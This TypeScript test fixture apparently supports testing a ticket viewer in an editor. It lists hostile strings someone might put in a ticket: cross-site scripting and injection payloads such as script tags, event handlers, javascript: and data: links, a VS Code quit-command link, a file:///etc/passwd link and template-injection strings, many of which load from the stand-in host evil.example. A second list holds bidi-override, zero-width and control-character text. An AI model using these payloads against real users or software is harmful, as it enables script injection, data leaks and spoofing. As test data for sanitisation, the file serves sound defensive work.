/** A host that nobody has; a request to it is a leak. */
export const EVIL_HOST = "evil.example";
const EVIL = `https://${EVIL_HOST}`;

/** Sets a mark that a test looks for, and opens a dialog. */
const RUN = "window.__ran=1;alert(1)";

/** What somebody may write in a ticket so that a reader's editor runs, opens or loads something. */
export const HOSTILE_TEXTS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src="${EVIL}/x.js"></script>`,
  `<img src="${EVIL}/p.png">`,
  `<img src=x onerror="${RUN}">`,
  `"><svg/onload=${RUN}>`,
  `<svg><script href="${EVIL}/x.js"/></svg>`,
  `<iframe src="${EVIL}/frame" srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data="${EVIL}/o.swf"></object><embed src="${EVIL}/e">`,
  `<video poster="${EVIL}/v.png" autoplay><source src="${EVIL}/v.mp4"></video>`,
  `<link rel="stylesheet" href="${EVIL}/s.css"><style>@import "${EVIL}/i.css";</style>`,
  `<p style="background:url(${EVIL}/b.png)">styled</p>`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/go"><base href="${EVIL}/">`,
  `<form action="${EVIL}/f"><input autofocus onfocus="${RUN}"></form>`,
  `</p></li></ol></section></main></body><script>${RUN}</script>`,
  `<a href="command:workbench.action.quit">quit</a>`,
  "[quit](command:workbench.action.quit)",
  `[run](javascript:${encodeURIComponent(RUN)})`,
  `[data](data:text/html,<script>${RUN}</script>)`,
  "[file](file:///etc/passwd) [editor](vscode://file/etc/passwd) [slashes](//evil.example/x)",
  `![picture](${EVIL}/m.png "title")`,
  `<${EVIL}/auto> ${EVIL}/bare www.${EVIL_HOST} mailto:ada@${EVIL_HOST}`,
  `[ref][r]\n\n[r]: ${EVIL}/ref`,
  "$(trash) $(sync~spin) `code` **bold** <!-- canon:ticket:jira:X-1 -->",
  `{{constructor.constructor('alert(1)')()}} \${7*7} #{7*7}`,
];

/** What a reader would see otherwise than it was written, or not at all. */
export const UNSEEN_TEXTS: readonly string[] = [
  "\u202egnp.exe\u202c is a picture",
  "\u2066\u202ereversed\u2069",
  "zero\u200bwidth\u2060joined\ufeff",
  "tag\u{e0041}\u{e0042}letters",
  `z${"\u0301\u0336".repeat(4000)}algo`,
  "bell\u0007 escape\u001b[31m null\u0000",
];
